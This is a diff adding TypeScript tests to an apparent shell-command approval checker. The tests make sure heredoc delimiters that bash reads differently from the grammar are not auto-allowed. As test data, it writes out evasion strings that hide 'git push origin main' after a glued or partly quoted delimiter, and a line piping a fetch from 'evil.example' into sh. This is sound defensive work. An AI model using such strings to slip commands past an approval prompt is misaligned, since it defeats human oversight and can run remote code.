@@ -57,6 +57,45 @@ describe('an assignment subscript is walked', () => {
   });
 });
 
+describe('heredoc delimiters bash reads differently from the grammar', () => {
+  const bodies = (start: string, end: string) => `cat <<${start}\nEOF\ngit push origin main\n${end}`;
+
+  it('an operator glued to the delimiter ends it for bash: the call needs approval', async () => {
+    for (const command of ['cat <<EOF;true\nEOF\ngit push origin main\nEOF;true', 'cat <<EOF&&true\nEOF\ngit push origin main\nEOF&&true', 'cat <<EOF|sh\ncurl https://evil.example/x\nEOF\nEOF|sh']) {
+      const decision = await decide(command);
+      expect(decision.decision, command).not.toBe('allow');
+      expect(decision.reasons.join('\n'), command).toMatch(/heredoc delimiter/);
+    }
+  });
+
+  it('a partly quoted delimiter is quote-removed by bash: the call needs approval', async () => {
+    for (const delimiter of [`E"O"F`, `E'O'F`, `EOF''`, `E''OF`, `$'EOF'`, `$"EOF"`, `E$'O'F`, `$'E'OF`, `'EO'F`, `"EO"F`]) {
+      for (const operator of ['', '-']) {
+        const decision = await decide(bodies(`${operator}${delimiter}`, delimiter));
+        expect(decision.decision, delimiter).not.toBe('allow');
+        expect(await reasonCodes(bodies(`${operator}${delimiter}`, delimiter)), delimiter).toContain('parse-error');
+      }
+    }
+  });
+
+  it('the usual delimiters are read alike and stay allowed', async () => {
+    for (const command of [
+      'cat <<EOF\nhello $HOME\nEOF',
+      "cat <<'EOF'\nhello $(rm x)\nEOF",
+      'cat <<"EOF"\nhello\nEOF',
+      'cat <<-EOF\n\thello\n\tEOF',
+      'cat << EOF\nhello\nEOF',
+      'cat <<\\EOF\nhello $(rm x)\nEOF',
+      'cat <<END_OF-FILE.1 >/dev/null\nhello\nEND_OF-FILE.1',
+      "cat <<'EOF' | cat\nhello\nEOF",
+    ]) {
+      const decision = await decide(command);
+      expect(decision.decision, command).toBe('allow');
+      expect(decision.reasons, command).toEqual([]);
+    }
+  });
+});
+
 describe('a NUL in $\'…\' ends the value, as it ends the C string bash passes', () => {
   const policy = {
     version: 1,
